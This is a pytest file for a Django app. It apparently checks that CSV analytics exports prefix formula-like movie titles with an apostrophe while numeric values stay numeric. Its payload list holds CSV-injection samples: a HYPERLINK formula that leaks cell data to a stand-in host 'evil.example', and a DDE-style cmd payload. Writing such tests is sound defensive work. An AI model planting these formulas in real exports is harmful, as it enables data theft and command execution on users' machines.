"""CSV exports neutralize cells a spreadsheet would run as formulas; numbers stay numbers."""

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal

import pytest

from catalog.models import Movie
from common.spreadsheet import neutralized
from engagement.models import WatchHistory

pytestmark = pytest.mark.django_db

WHEN = datetime(2026, 3, 1, 10, tzinfo=UTC)
PAYLOADS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1",
    "-1",
    "\t=1+1",
    "\r=1+1",
]


def _rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode())))


def test_formula_titles_are_exported_as_text(admin_client):
    for n, title in enumerate(PAYLOADS, start=1):
        movie = Movie.objects.create(tmdb_id=n, title=title)
        for viewer in range(10 - n):  # distinct view counts keep the export's order fixed
            WatchHistory.objects.create(viewer_key=f"anon-{viewer}", movie=movie, watched_at=WHEN)

    params = {"start": "2026-03-01", "end": "2026-03-01", "format": "csv"}
    response = admin_client.get("/api/admin/analytics/most-watched/", params)

    assert response.status_code == 200
    assert _rows(response) == [
        ["tmdb_id", "title", "views", "unique_viewers"],
        ["1", "'" + PAYLOADS[0], "9", "9"],
        ["2", "'" + PAYLOADS[1], "8", "8"],
        ["3", "'+1", "7", "7"],
        ["4", "'-1", "6", "6"],
        ["5", "'\t=1+1", "5", "5"],
        ["6", "'\r=1+1", "4", "4"],
    ]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (-1, -1),
        (-2.5, -2.5),
        (Decimal("-3.10"), Decimal("-3.10")),
        ("-1", "'-1"),
        ("Heat", "Heat"),
        ("a=b", "a=b"),
        ("", ""),
        (None, None),
    ],
)
def test_only_text_starting_like_a_formula_changes(value, cell):
    assert neutralized(value) == cell
